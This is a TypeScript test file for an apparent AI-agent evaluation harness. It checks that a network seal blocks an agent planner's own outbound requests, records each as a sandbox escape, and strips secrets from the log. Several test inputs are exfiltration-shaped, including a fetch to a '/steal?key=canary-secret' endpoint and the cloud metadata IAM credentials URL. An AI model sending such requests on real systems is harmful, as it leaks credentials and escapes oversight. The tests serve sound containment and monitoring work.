import { createServer, get as httpGet, type Server } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Planner } from '../../harness/core/planner.ts';
import { seal } from '../../harness/engine/sandbox/seal.ts';
import { EMAIL_YAML, call, runDecisions, runPlanner, scenarioFrom } from '../helpers/run.ts';

const scenario = scenarioFrom(EMAIL_YAML);

/** A loopback server standing in for "the network": if the seal leaks, it sees the request. */
let server: Server;
let hits = 0;
let origin = '';

beforeAll(async () => {
  seal.acquire();
  server = createServer((_req, res) => {
    hits++;
    res.end('reached');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  seal.release();
  await new Promise((r) => server.close(r));
});

function nodeRequest(
  fn: (cb: () => void) => { on(e: 'error', f: () => void): unknown; end?: () => void },
): Promise<string> {
  return new Promise((resolve) => {
    const req = fn(() => resolve('answered'));
    req.on('error', () => resolve('failed'));
    req.end?.();
  });
}

/** A planner that makes a request of its own on turn 1, then finishes. */
function leaky(request: () => Promise<string>, seen: string[]): Planner {
  return {
    name: 'leaky',
    async next(view) {
      if (view.turn === 1) {
        seen.push(await request().catch(() => 'failed'));
        return call('verify_recipient', { email: 'bob@acme.example' });
      }
      return { type: 'finish' };
    },
  };
}

describe('the seal', () => {
  const cases: [string, () => Promise<string>][] = [
    [
      'fetch to a public API',
      () => fetch('https://api.mailgun.example/v3/messages', { method: 'POST' }).then(() => 'answered'),
    ],
    [
      'fetch to a URL shaped like a static asset',
      () => fetch('https://cdn.example.com/app/data.json').then(() => 'answered'),
    ],
    [
      'fetch to a script under node_modules',
      () => fetch('http://example.com/node_modules/x/index.js').then(() => 'answered'),
    ],
    ['fetch to a loopback server', () => fetch(`${origin}/steal?key=canary-secret`).then(() => 'answered')],
    ['node:http to a loopback server', () => nodeRequest((cb) => httpGet(`${origin}/x`, cb))],
    [
      'node:https to a public host',
      () => nodeRequest((cb) => httpsRequest('https://example.com/collect', { method: 'POST' }, cb)),
    ],
  ];

  it.each(cases)('blocks %s and counts it as a sandbox escape on the run', async (_name, request) => {
    const seen: string[] = [];
    const before = hits;
    const r = await runPlanner(scenario, leaky(request, seen), { transport: 'msw' });
    expect(seen).toEqual(['failed']);
    expect(r.sandbox_escapes).toBe(1);
    expect(hits).toBe(before);
    // The run went on after the blocked request.
    expect(r.steps).toBe(1);
    expect(r.error).toBeNull();
  });

  const shapes = [
    'http://127.0.0.1:9/',
    'http://[::1]:8080/admin',
    'http://localhost/',
    'http://0.0.0.0:3000/',
    'HTTPS://EXAMPLE.COM/UPPER',
    'http://example.com./trailing-dot',
    'http://xn--80ak6aa92e.com/',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://oneway.invalid/tools/send_email',
    'http://r0-0.oneway.invalid/tools/send_email',
    `https://example.com/${'a'.repeat(4000)}`,
    'http://example.com:65535/?q=1#frag',
  ];
  it.each(shapes)('blocks %s', async (url) => {
    const seen: string[] = [];
    const r = await runPlanner(
      scenario,
      leaky(() => fetch(url).then(() => 'answered'), seen),
      { transport: 'msw' },
    );
    expect(seen).toEqual(['failed']);
    expect(r.sandbox_escapes).toBe(1);
    const e = r.events.find((x) => x.type === 'escape');
    expect(e?.type === 'escape' && e.url).not.toContain('hunter2');
  });

  it('blocks node:http to a URL with credentials and records it without them', async () => {
    const seen: string[] = [];
    const r = await runPlanner(
      scenario,
      leaky(() => nodeRequest((cb) => httpGet('http://user:hunter2@internal.example.com/x', cb)), seen),
      { transport: 'msw' },
    );
    expect(seen).toEqual(['failed']);
    expect(r.sandbox_escapes).toBe(1);
    expect(JSON.stringify(r.events)).not.toContain('hunter2');
  });

  it("refuses a direct call to the run's own tool host without the harness's token", async () => {
    const { Sandbox } = await import('../../harness/engine/sandbox/sandbox.ts');
    const { mswTransport } = await import('../../harness/engine/sandbox/transport.ts');
    const escapes: unknown[] = [];
    const t = mswTransport(new Sandbox(scenario, 1), 'direct', (e) => escapes.push(e));
    const res = await fetch(`http://${t.host}/tools/send_email`, {
      method: 'POST',
      body: JSON.stringify({ args: { to: 'x@y' } }),
    });
    t.close();
    expect(res.status).toBe(403);
    expect(escapes).toHaveLength(1);
  });

  it('records the escaping URL without its query string (where secrets travel)', async () => {
    const r = await runPlanner(
      scenario,
      leaky(() => fetch(`${origin}/steal?key=canary-secret`).then(() => 'answered'), []),
      { transport: 'msw' },
    );
    const escape = r.events.find((e) => e.type === 'escape');
    expect(escape).toMatchObject({ type: 'escape', method: 'GET', url: `${origin}/steal` });
    expect(JSON.stringify(r.events)).not.toContain('canary-secret');
  });

  it('counts a request made outside any run as unattributed', async () => {
    // The seal is the process's: another test's late socket (a reconnect, a keep-alive closing) may be
    // counted meanwhile, so this test counts its own request only, by its URL (no other test's).
    const url = 'https://example.org/seal-test/outside-any-run';
    const before = seal.unattributed.length;
    await expect(fetch(`${url}?key=canary-secret`)).rejects.toThrow();
    expect(seal.unattributed.slice(before).filter((e) => e.url.startsWith(url))).toEqual([
      { method: 'GET', url, reason: 'no tool serves this request' },
    ]);
  });

  it('serves tool calls over real HTTP through MSW', async () => {
    const r = await runDecisions(scenario, [call('verify_recipient', { email: 'bob@acme.example' })], {
      transport: 'msw',
    });
    expect(r.sandbox_escapes).toBe(0);
    expect(r.steps).toBe(1);
  });
});

describe('transports', () => {
  it('give identical records over MSW and in process', async () => {
    const withFault = scenarioFrom(
      EMAIL_YAML.replace(
        '    latency_ms: 120',
        '    latency_ms: 120\n    faults: [ { on_call: 1, status: 504, applied: true } ]',
      ),
    );
    const decisions = [
      {
        type: 'batch' as const,
        calls: [
          { tool: 'verify_recipient', args: { email: 'bob@acme.example' } },
          { tool: 'request_approval', args: { action: 'send_email' } },
          { tool: 'create_invoice', args: { customer: 'acme', amount: 1200 } },
        ],
      },
      call('send_email', { to: 'bob@acme.example' }),
      call('get_email_status', { to: 'bob@acme.example' }),
      call('purge_inactive'),
    ];
    const a = await runDecisions(withFault, decisions, { transport: 'msw', seed: 3 });
    const b = await runDecisions(withFault, decisions, { transport: 'inprocess', seed: 3 });
    expect(a.events).toEqual(b.events);
    expect(a.events.filter((e) => e.type === 'call')).toHaveLength(6);
  });
});
